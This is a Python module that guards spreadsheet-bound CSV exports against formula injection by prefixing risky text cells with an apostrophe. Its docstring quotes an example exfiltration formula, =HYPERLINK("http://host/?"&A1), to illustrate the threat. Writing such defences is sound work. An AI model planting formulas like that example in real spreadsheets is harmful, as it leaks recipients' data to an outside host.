"""Tables written for people to open in a spreadsheet: CSV whose text cells cannot run as formulas.

A cell that starts with `=`, `+`, `-`, `@` (or a tab or carriage return) is a formula to Excel, LibreOffice and
Google Sheets (CSV injection, OWASP): a title such as `=HYPERLINK("http://host/?"&A1)` would run on the colleague's
machine. Such text cells get a leading apostrophe, which spreadsheets show as text; numbers are left as numbers.
"""
from __future__ import annotations

import pandas as pd

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _number(text: str) -> bool:
    try:
        float(text)
        return True
    except ValueError:
        return False


def neutralize(value: object) -> object:
    """A text cell that a spreadsheet would read as a formula, prefixed with an apostrophe; anything else (a number,
    or a number written as text such as "-1.5") as it is."""
    if isinstance(value, str) and value.startswith(FORMULA_START) and not _number(value):
        return "'" + value
    return value


def safe_frame(frame: pd.DataFrame, exempt: tuple[str, ...] = ()) -> pd.DataFrame:
    """A copy with every text cell and column name neutralized (numeric columns, and the `exempt` columns of the
    app's own ids, untouched)."""
    out = frame.copy()
    for col in out.columns:
        if col not in exempt and not (pd.api.types.is_numeric_dtype(out[col]) or pd.api.types.is_bool_dtype(out[col])):
            out[col] = out[col].map(neutralize)
    out.columns = [neutralize(str(c)) for c in out.columns]
    return out


def csv_bytes(frame: pd.DataFrame) -> bytes:
    """The frame as UTF-8 CSV, safe to open in a spreadsheet."""
    return safe_frame(frame).to_csv(index=False).encode()
